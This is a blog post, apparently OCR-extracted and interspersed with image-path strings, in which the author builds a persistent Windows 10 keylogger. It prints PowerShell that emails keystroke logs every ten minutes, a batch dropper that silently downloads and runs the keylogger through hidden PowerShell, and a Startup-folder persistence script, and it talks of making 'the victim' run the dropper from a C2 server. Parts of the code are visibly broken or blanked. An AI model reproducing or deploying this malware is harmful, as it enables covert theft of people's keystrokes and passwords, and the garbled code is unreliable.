Persistent windows 10 keylogger (keylogiq)

In this post, I will describe how I created undetectable keylogger for windows 10. In the first place, why I decided to create my own tool, if already keyloggers exist. Well, I could not find any, which includes some additional functions as sending results over email every each X minutes, I want. In addition, most important, I could not find the one, which have persistent option. Therefore, as soon as computer is rebooted or turned on, keylogger will start recording again. It was also importantfor me to create a tool, which will have options for upgrading of attack, by adding e.g. keygrabber, backdoor ,etc.

However, due to this tool was created mostly for education purposes and fun, I did not bother how accurate in recording of special characters it is. I found the source of code written in C and I tested it. It worked fine, so I decided to go further in implementation of other things. Maybe you are asking why I decided to use keylogger written in C and not in e.g. python. Well, I think C is most suitable when we talking about extension of file. Compiled code in C gives you .exeextension, which is executable in windows by default, while python gives you extension .py, for which execution is needed python preinstalled on windows machine. Of course, there are also the ways to convert python code into exe file, but many times, it does not work well,at least for me.

For now, I covered keylogger for itself. Next step was toimplement sending results over email. I tried to implement this function over C inside the keylogger of itself, but unfortunately I failed. It was enough frustrations with C so I decided to implement this function over powershell script, which anyway I needed for setting up persistent. Here is the part of code written in powershell, which send email on each 600 seconds with attachment (Records.txt) where keylogger is recording results of keystrokes. It is repeating until process of keylogger is active.

cd$env:USERPROFILE"\AppData\Local\Temp"$SMTPServer = ""
$SMTPPort = "587"
$Username = "[email protected]"
$Password = "qwertz12345"


$to = "[email protected]"
$subject = "key_records"
$body = "key records"$attachment = "Record.txt"

$message = New-Object System.Net.Mail.MailMessage
$message.subject = $subject
$message.body = $body
$message.from = $username
$smtp = New-ObjectSystem.Net.Mail.SmtpClient($SMTPServer, $SMTPPort);
$smtp.EnableSSL = $true
$smtp.Credentials = New-Object System.Net.NetworkCredential($Username, $Password);

start-sleep 5


$proc = Get-Process

start-sleep 600

} While ($ -contains 'keylogger')

In addition I created main batch file, which includes next functions. It start in a background powershell script, which download keylogger.exe, records.txt, email_powershell.ps1 and persistent.bat files into specific folder and execute the processes. All files are stored in Users\(user name)\AppData\Local\Temp , just persistent.bat file is stored in location where files for auto start at boot are located(Users\(user name)\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup). Here is the code of main.bat:

cd %userprofile%\AppData\Local\Temp
start PowerShell -windowstyle hidden (New-Object System.Net.WebClient).DownloadFile('','Record.txt');(New-Object System.Net.WebClient).DownloadFile('','smkscr.ps1');(New-ObjectSystem.Net.WebClient).DownloadFile('','krec.exe');Start-Process 'krec.exe';.\smkscr.ps1;
cd "%userprofile%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"
start PowerShell -windowstyle hidden (New-Object System.Net.WebClient).DownloadFile('', 'pers.bat')

And here is the code of persistent.bat file which is nothing special. When it is executed it run the keylooger and email powershell script again.

cd %userprofile%\AppData\Local\Temp
start PowerShell -windowstyle hidden -ExecutionPolicy Bypass Start-Process 'krec.exe';.\smkscr.ps1

That’s it, now I have fully functional undetectable keylogger for windows 10, which is sending me results on email forever. Well, until it is detected by user :). All I need is to transfer files on my C2 server and make the victim to run my main.bat file…For the end I created tool/script for a Linux which will create all necessary files for you. All you need is to inpute gmail account, password, how often you want to receive results on email and hosting address for needed files. And do not forget to enable access to less secure apps in your gmail account, otherwise you will not receive mails. You can find this tool onthe following link.

Add a Comment